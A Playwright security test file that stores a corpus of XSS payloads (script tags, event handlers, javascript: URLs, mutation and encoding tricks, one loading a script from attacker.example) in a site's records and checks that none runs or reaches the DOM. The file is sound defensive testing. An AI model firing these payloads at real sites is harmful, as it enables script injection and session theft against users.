import { expect, test, type APIRequestContext, type Page } from '@playwright/test'

import { E2E_ADMIN } from './env'

/**
 * The XSS corpus: payloads saved through the admin API into titles, summaries and rich text
 * (text and link URLs), then rendered in Chromium on the record page, the lists, the search
 * results with their highlights, and typed into the search query. Every payload tries to run
 * `window.__xss(<n>)` (or alert): nothing may run, and none of its markup may reach the DOM.
 */

const run = (n: number) => `__xss(${n})`
const payloads: string[] = [
  `<script>${run(1)}</script>`,
  `<SCRIPT SRC=//attacker.example/x.js></SCRIPT>`,
  `"><script>${run(3)}</script>`,
  `'><script>${run(4)}</script>`,
  `</title><script>${run(5)}</script>`,
  `</script><script>${run(6)}</script>`,
  `<img src=x onerror=${run(7)}>`,
  `<img src="x" onerror="${run(8)}">`,
  `<IMG SRC=javascript:${run(9)}>`,
  `<svg onload=${run(10)}>`,
  `<svg><script>${run(11)}</script></svg>`,
  `<svg><animate onbegin=${run(12)} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run(13)}>`,
  `<body onload=${run(14)}>`,
  `<iframe src="javascript:${run(15)}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run(16)}</script>"></iframe>`,
  `<object data="javascript:${run(17)}"></object>`,
  `<embed src="javascript:${run(18)}">`,
  `<a href="javascript:${run(19)}">click</a>`,
  `<a href="JaVaScRiPt:${run(20)}">click</a>`,
  `<a href="&#106;avascript:${run(21)}">click</a>`,
  `<details open ontoggle=${run(22)}>`,
  `<input autofocus onfocus=${run(23)}>`,
  `<select autofocus onfocus=${run(24)}>`,
  `<textarea autofocus onfocus=${run(25)}>`,
  `<video><source onerror=${run(26)}>`,
  `<audio src=x onerror=${run(27)}>`,
  `<marquee onstart=${run(28)}>`,
  `<div style="background:url(javascript:${run(29)})">`,
  `<style>@import 'javascript:${run(30)}';</style>`,
  `<link rel=stylesheet href="javascript:${run(31)}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run(32)}">`,
  `<base href="javascript:${run(33)}//">`,
  `<form action="javascript:${run(34)}"><button>go</button></form>`,
  `<button formaction="javascript:${run(35)}">go</button>`,
  `<isindex type=image src=1 onerror=${run(36)}>`,
  `<img src=x onerror="&#x5f;&#x5f;xss(37)">`,
  `<scr<script>ipt>${run(38)}</scr</script>ipt>`,
  `<<script>script>${run(39)}<</script>/script>`,
  `<img """><script>${run(40)}</script>">`,
  `<img src=x:x onerror=${run(41)}//`,
  `<svg/onload=${run(42)}`,
  `<!--<img src="--><img src=x onerror=${run(43)}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${run(44)}>">`,
  `<template><script>${run(45)}</script></template>`,
  `\u003cscript\u003e${run(46)}\u003c/script\u003e`,
  `%3Cscript%3E${run(47)}%3C%2Fscript%3E`,
  `&lt;script&gt;${run(48)}&lt;/script&gt;`,
  `{{constructor.constructor('${run(49)}')()}}`,
  `\${${run(50)}}`,
  `<mark>not a highlight</mark><script>${run(51)}</script>`,
  `</mark><img src=x onerror=${run(52)}><mark>`,
  `javascript:${run(53)}`,
  `data:text/html,<script>${run(54)}</script>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcyg1NSk8L3NjcmlwdD4=">x</a>`,
  `"onmouseover="${run(56)}`,
]
/** Link URLs put into rich text: only http, https, mailto and tel may become links. */
const linkUrls = [
  `javascript:${run(101)}`,
  ` javascript:${run(102)}`,
  `JAVASCRIPT:${run(103)}`,
  `java\tscript:${run(104)}`,
  `data:text/html,<script>${run(105)}</script>`,
  `vbscript:msgbox(106)`,
  `//attacker.example/107`,
]

const MARKER = 'xsscorpus'
const text = (value: string) => ({ type: 'text', text: value, format: 0, detail: 0, mode: 'normal', style: '', version: 1 })
const paragraph = (children: unknown[]) => ({
  type: 'paragraph',
  format: '',
  indent: 0,
  version: 1,
  direction: 'ltr',
  textFormat: 0,
  textStyle: '',
  children,
})
const link = (url: string, label: string) => ({
  type: 'link',
  version: 3,
  format: '',
  indent: 0,
  direction: 'ltr',
  fields: { url, newTab: false, linkType: 'custom' },
  children: [text(label)],
})
const richText = (paragraphs: unknown[][]) => ({
  root: { type: 'root', format: '', indent: 0, version: 1, direction: 'ltr', children: paragraphs.map(paragraph) },
})

async function token(request: APIRequestContext, who: { email: string; password: string }) {
  const response = await request.post('/api/users/login', { data: who })
  expect(response.status(), await response.text()).toBe(200)
  return (await response.json()).token as string
}

/**
 * What a payload could have left in the page: elements the site never puts in its main content,
 * event handler attributes, autofocus, dangerous URL schemes, or any attribute carrying the
 * payloads' function name.
 */
async function escapedMarkup(page: Page): Promise<string[]> {
  return page.locator('main').evaluate((main) => {
    const never = new Set([
      'script',
      'iframe',
      'object',
      'embed',
      'base',
      'meta',
      'link',
      'style',
      'marquee',
      'template',
      'noscript',
      'video',
      'audio',
      'source',
      'math',
      'isindex',
      'body',
      'form button[formaction]',
    ])
    const found: string[] = []
    for (const element of main.querySelectorAll('*')) {
      const tag = element.tagName.toLowerCase()
      // The page's own JSON-LD is a data block the browser never runs; it must hold JSON only.
      const jsonLd = tag === 'script' && element.getAttribute('type') === 'application/ld+json' && element.attributes.length === 1
      if (jsonLd) {
        try {
          JSON.parse(element.textContent ?? '')
          continue
        } catch {
          // not JSON: reported below
        }
      }
      if (never.has(tag)) found.push(`<${tag}> ${element.outerHTML.slice(0, 80)}`)
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name) || attribute.name === 'autofocus' || attribute.name === 'formaction' || attribute.name === 'srcdoc')
          found.push(`${tag}[${attribute.name}]`)
        // A query echoed in the search box, or URL-encoded in the site's own links, is data.
        const echoed = attribute.name === 'value' || (attribute.name === 'href' && attribute.value.startsWith('/'))
        if (/__xss/.test(attribute.value) && !echoed) found.push(`${tag}[${attribute.name}=${attribute.value.slice(0, 40)}]`)
        if (
          ['href', 'src', 'action', 'data', 'style'].includes(attribute.name) &&
          /(^|\(|\s)(javascript|data|vbscript):/i.test(attribute.value)
        )
          found.push(`${tag}[${attribute.name}=${attribute.value.slice(0, 40)}]`)
      }
    }
    return found
  })
}

let slugs: string[] = []
let pilot: number
let admin: string
let approver: string

test.describe.configure({ mode: 'serial' })

test.beforeAll(async ({ request }) => {
  test.setTimeout(240_000)
  admin = await token(request, E2E_ADMIN)
  const editor = { email: `xss-editor-${Date.now()}@example.org`, password: 'xss-editor-password-0123' }
  const made = await request.post('/api/users', {
    headers: { Authorization: `JWT ${admin}` },
    data: { ...editor, name: 'XSS editor', role: 'editor' },
  })
  expect(made.status(), await made.text()).toBeLessThan(300)
  approver = await token(request, editor)
  pilot = (await (await request.get('/api/pilots?limit=1&depth=0')).json()).docs[0].id

  // Eight payloads per practice: title, summary, steps and rich text (text and links) all carry them.
  slugs = []
  for (let i = 0; i < payloads.length; i += 8) {
    const batch = payloads.slice(i, i + 8)
    const data = {
      title: `${MARKER} ${i} ${batch[0]}`,
      summary: `${MARKER} summary ${batch.join(' ')}`,
      problem: richText(batch.map((payload) => [text(`${MARKER} ${payload}`)])),
      results: richText(batch.map((payload) => [link('https://example.org/ok', payload)])),
      steps: batch.map((payload) => ({ title: payload, description: `${MARKER} ${payload}` })),
      pilots: [pilot],
      evidenceLevel: 'described',
    }
    const created = await request.post('/api/practices?draft=true', { headers: { Authorization: `JWT ${admin}` }, data })
    expect(created.status(), await created.text()).toBeLessThan(300)
    const { doc } = await created.json()
    const submitted = await request.post(`/api/practices/${doc.id}/workflow/submitForReview`, {
      headers: { Authorization: `JWT ${admin}` },
      data: {},
    })
    expect(submitted.status(), await submitted.text()).toBe(200)
    const published = await request.post(`/api/practices/${doc.id}/workflow/publish`, {
      headers: { Authorization: `JWT ${approver}` },
      data: {},
    })
    expect(published.status(), await published.text()).toBe(200)
    slugs.push(doc.slug)
  }
})

async function visit(page: Page, path: string) {
  const ran: string[] = []
  await page.exposeFunction('__xss', (n: number) => ran.push(`payload ${n} ran on ${path}`)).catch(() => undefined)
  page.on('dialog', (dialog) => {
    ran.push(`dialog on ${path}: ${dialog.message()}`)
    void dialog.dismiss()
  })
  const response = await page.goto(path)
  expect(response?.status(), path).toBe(200)
  await page.waitForLoadState('networkidle')
  return ran
}

test('record pages: every payload shows as text, none runs', async ({ page }) => {
  test.setTimeout(180_000)
  const ran: string[] = []
  for (const slug of slugs) {
    for (const locale of ['en', 'fr']) {
      ran.push(...(await visit(page, `/${locale}/practices/${slug}`)))
      expect(await escapedMarkup(page), slug).toEqual([])
    }
  }
  // The payloads are on the page, as text.
  await page.goto(`/en/practices/${slugs[0]}`)
  await expect(page.locator('h1')).toContainText(payloads[0]!)
  await expect(page.locator('main')).toContainText(payloads[1]!)
  const hrefs = await page.locator('main a').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''))
  expect(hrefs.filter((href) => !/^(https?:|mailto:|tel:|\/)/.test(href))).toEqual([])
  await expect(page.locator('main a[href="https://example.org/ok"]').first()).toBeVisible()
  expect(ran).toEqual([])
})

test('lists, search results with highlights, and payloads as the search query', async ({ page }) => {
  test.setTimeout(300_000)
  const ran: string[] = []
  for (const path of [
    '/en/practices',
    `/en/search?q=${MARKER}`,
    `/fr/search?q=${MARKER}+script`,
    `/en/search?q=${MARKER}&sort=title`,
    '/en',
  ]) {
    ran.push(...(await visit(page, path)))
    expect(await escapedMarkup(page), path).toEqual([])
  }
  // Highlights: the matched word is marked, the payload around it stays text.
  await page.goto(`/en/search?q=${MARKER}`)
  await expect(page.locator('.hit mark').first()).toBeVisible()
  expect(await page.locator('.hit mark *').count()).toBe(0)

  for (const payload of payloads) {
    const path = `/en/search?q=${encodeURIComponent(payload)}`
    ran.push(...(await visit(page, path)))
    expect(await escapedMarkup(page), payload).toEqual([])
    await expect(page.getByRole('searchbox').first()).toHaveValue(payload.trim().slice(0, 200))
  }
  expect(ran).toEqual([])
})

test('the CSV export and the feed carry payloads as data, not markup', async ({ page, request }) => {
  const csv = await (await request.get(`/en/search/export.csv?q=${MARKER}`)).text()
  expect(csv).toContain(MARKER)
  const feed = await (await request.get('/en/feed.xml')).text()
  expect(feed).toContain(MARKER)
  // Titles and summaries are plain text (`type="text"`): a feed reader shows them as written and
  // renders no markup from them; the XML parser sees the payloads as text, never as elements.
  await page.goto('/en')
  const elements = await page.evaluate((source) => {
    const xml = new DOMParser().parseFromString(source, 'application/xml')
    const fields = [...xml.querySelectorAll('entry > title, entry > summary')].filter((field) => field.textContent?.includes('xsscorpus'))
    return {
      fields: fields.length,
      types: [...new Set(fields.map((field) => field.getAttribute('type')))],
      children: fields.reduce((count, field) => count + field.children.length, 0),
    }
  }, feed)
  expect(elements.fields).toBeGreaterThan(0)
  expect(elements.types).toEqual(['text'])
  expect(elements.children).toBe(0)
})

test('link URLs in rich text: other schemes than http, https, mailto and tel are refused at publication, or shown as text', async ({
  page,
  request,
}) => {
  test.setTimeout(180_000)
  const outcomes: string[] = []
  for (const url of linkUrls) {
    const created = await request.post('/api/practices?draft=true', {
      headers: { Authorization: `JWT ${admin}` },
      data: {
        title: `${MARKER} link ${linkUrls.indexOf(url)}`,
        summary: 'Link test.',
        results: richText([[link(url, `${MARKER} link text`)]]),
        pilots: [pilot],
        evidenceLevel: 'described',
      },
    })
    expect(created.status(), await created.text()).toBeLessThan(300)
    const { doc } = await created.json()
    await request.post(`/api/practices/${doc.id}/workflow/submitForReview`, { headers: { Authorization: `JWT ${admin}` }, data: {} })
    const published = await request.post(`/api/practices/${doc.id}/workflow/publish`, {
      headers: { Authorization: `JWT ${approver}` },
      data: {},
    })
    if (published.status() === 400) {
      expect(await published.text()).toContain('Results')
      outcomes.push(`${JSON.stringify(url)}: refused at publication (400)`)
      continue
    }
    expect(published.status()).toBe(200)
    const ran = await visit(page, `/en/practices/${doc.slug}`)
    expect(ran).toEqual([])
    await expect(page.locator('main')).toContainText(`${MARKER} link text`)
    const hrefs = await page.locator('main a').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''))
    expect(
      hrefs.filter((href) => !/^(https?:|mailto:|tel:|\/)/.test(href)),
      url,
    ).toEqual([])
    outcomes.push(`${JSON.stringify(url)}: published, shown as plain text`)
  }
  console.log(outcomes.join('\n'))
})
